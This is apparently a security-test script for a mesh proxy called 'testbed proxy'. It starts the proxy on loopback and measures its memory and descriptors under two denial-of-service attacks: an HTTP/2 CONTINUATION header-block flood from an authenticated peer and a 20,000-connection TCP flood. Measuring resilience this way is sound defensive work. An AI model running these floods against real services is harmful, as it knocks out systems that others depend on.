#!/usr/bin/env python3
"""Attacks on a running `testbed proxy`, measured from outside (reports/security.md).

Usage (as root, after `cargo build --release`):
    python3 reports/security-attacks.py

It writes a CA and workload certificates with `testbed certs`, starts `testbed proxy` for one
pod on loopback (127.93.1.5, in the current network namespace), runs each attack against its
15008 listener, and prints the proxy's resident memory and open descriptors before, at the
peak and after. Standard library only.
"""
import os, resource, socket, ssl, struct, subprocess, sys, tempfile, time

BIN = os.environ.get("TESTBED", "target/release/testbed")
POD = "127.93.1.5"
ATTACKER = "127.93.0.5"

def rss_kb(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return -1

def fds(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))

def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def tls_conn(d):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the attacker need not check the server
    ctx.load_cert_chain(f"{d}/default.sleep.pem", f"{d}/default.sleep.key.pem")
    ctx.set_alpn_protocols(["h2"])
    s = socket.socket()
    s.bind((ATTACKER, 0))
    s.connect((POD, 15008))
    return ctx.wrap_socket(s)

def header_blocks(pid, d, conns=60, block_mb=15):
    """Each connection: an authenticated h2 peer sends one header block it never finishes."""
    socks, refused = [], 0
    payload = bytes([0x00, 0x01, ord("x"), 0x7F, 0xFF, 0xFF, 0xFF, 0x7F]) + b"a" * (16384 - 8)
    for _ in range(conns):
        s = tls_conn(d)
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        sent = 0
        try:
            for i in range(block_mb * 64):
                s.sendall(frame(1 if i == 0 else 9, 0, 1, payload))
                sent += len(payload)
        except OSError:
            refused += 1
        socks.append((s, sent))
    peak = rss_kb(pid)
    accepted = sorted(sent for _, sent in socks)
    for s, _ in socks:
        s.close()
    time.sleep(2)
    return {"connections": conns, "refused": refused, "median_bytes_sent": accepted[len(accepted) // 2],
            "rss_peak_kb": peak, "rss_after_kb": rss_kb(pid)}

def connect_flood(pid, n=20000):
    """Bare TCP connects to 15008 (no TLS), all kept open."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    socks, failed = [], 0
    for _ in range(n):
        try:
            s = socket.socket()
        except OSError:  # the attacker's own descriptors ran out
            failed += 1
            continue
        try:
            s.bind((ATTACKER, 0))
            s.settimeout(2)
            s.connect((POD, 15008))
            socks.append(s)
        except OSError:
            failed += 1
            s.close()
    time.sleep(1)
    held = fds(pid)
    for s in socks:
        s.close()
    return {"connects": n, "failed_at_connect": failed, "proxy_fds_during": held}

def main():
    d = tempfile.mkdtemp(prefix="testbed-attack-")
    subprocess.run([BIN, "certs", "--out", d, "--seed", "1",
                    "--identity", "spiffe://cluster.local/ns/default/sa/sleep",
                    "--identity", "spiffe://cluster.local/ns/default/sa/echo"], check=True,
                   stdout=subprocess.DEVNULL)
    cfg = f"{d}/proxy.yaml"
    open(cfg, "w").write(f"""node: node-b
ca: {{certFile: ca.pem, keyFile: ca-key.pem}}
keySeed: 3
drain: 1s
pods: [{{ip: {POD}, listenIp: {POD}}}]
mesh:
  workloads:
    - {{name: server, node: node-b, ip: {POD}, serviceAccount: echo}}
    - {{name: client, node: node-a, ip: {ATTACKER}, serviceAccount: sleep}}
""")
    proxy = subprocess.Popen([BIN, "proxy", "--config", cfg], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    while "ready" not in proxy.stderr.readline():
        if proxy.poll() is not None:
            sys.exit("testbed proxy did not start")
    try:
        attack(proxy, d)
    finally:
        if proxy.poll() is None:
            proxy.kill()

def attack(proxy, d):
    pid = proxy.pid
    print(f"baseline: rss {rss_kb(pid)} kB, fds {fds(pid)}")
    print("header blocks:", header_blocks(pid, d))
    if proxy.poll() is not None:
        sys.exit(f"testbed proxy exited ({proxy.returncode}): {proxy.stderr.read()[-2000:]}")
    print("connect flood:", connect_flood(pid))
    if proxy.poll() is not None:
        sys.exit(f"testbed proxy exited ({proxy.returncode}): {proxy.stderr.read()[-2000:]}")
    proxy.send_signal(2)
    out, _ = proxy.communicate(timeout=30)
    print("counters:", " ".join(out.split()))

if __name__ == "__main__":
    main()
